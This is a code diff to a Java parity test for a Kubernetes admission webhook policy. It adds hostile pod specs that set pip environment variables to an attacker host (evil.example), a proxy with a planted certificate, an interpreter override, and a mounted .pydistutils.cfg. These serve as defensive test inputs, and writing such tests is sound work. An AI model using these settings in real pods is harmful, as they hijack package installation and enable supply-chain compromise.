@@ -60,6 +60,10 @@ class InjectPolicyParityTest {
         "{containers: [{name: c, env: [{name: HOME, valueFrom: {fieldRef: {fieldPath: metadata.name}}}]}]}",
         "{containers: [{name: c, envFrom: [{prefix: HTTP, configMapRef: {name: s}}]}]}",
         "{containers: [{name: c, envFrom: [{prefix: APP_, configMapRef: {name: s}}]}]}",
+        "{containers: [{name: c, env: [{name: PIP_EDITABLE, value: 'git+http://evil.example/x.git#egg=x'}]}]}",
+        "{containers: [{name: c, env: [{name: PIP_PROXY, value: 'http://evil.example:3128'}, {name: PIP_CERT, value: /mnt/evil.pem}]}]}",
+        "{containers: [{name: c, env: [{name: PIP_PYTHON, value: /mnt/tools/python}]}]}",
+        "{volumes: [{name: own, configMap: {name: own}}], containers: [{name: c, env: [{name: HOME, value: /home/b}], volumeMounts: [{name: own, mountPath: /home/b/.pydistutils.cfg, subPath: p}]}]}",
       })
   void theCommandAndTheWebhookDecideAlike(String podSpec, @TempDir Path dir) throws Exception {
     String pod =
@@ -98,7 +102,11 @@ class InjectPolicyParityTest {
             PodAdmission.Listener.NONE);
     ObjectNode review = AdmissionFuzzTest.review(pod);
     review.with("request").put("namespace", "ml");
-    return JSON.readTree(webhook.review(review.toString().getBytes(StandardCharsets.UTF_8)).body())
+    // through the policy's Enforce entry, as the API server sends it
+    return JSON.readTree(
+            webhook
+                .review("enforce/corp-builds", review.toString().getBytes(StandardCharsets.UTF_8))
+                .body())
         .path("response");
   }
 }
